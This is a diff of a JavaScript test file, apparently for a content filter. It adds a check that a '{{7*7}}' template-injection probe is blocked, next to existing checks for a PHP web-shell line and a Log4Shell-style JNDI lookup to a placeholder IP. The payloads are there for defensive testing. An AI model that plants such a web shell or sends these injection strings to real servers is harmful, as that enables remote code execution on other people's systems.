@@ -85,7 +85,8 @@ describe('code that a text quotes', () => {
       expect(stops(posted({ text: value }))).toBe(true);
     },
   );
-  test('tags and lookups are run wherever they stand', () => {
+  test('tags, templates and lookups are run wherever they stand', () => {
+    expect(stops(posted({ text: 'We use `{{7*7}}` here.' }))).toBe(true);
     expect(stops(posted({ text: '```\n<?php system($_GET[1]);\n```\n' }))).toBe(true);
     expect(stops(posted({ text: ['```\n$', '{jndi:ldap://198.51.100.7/a}\n```\n'].join('') }))).toBe(true);
   });
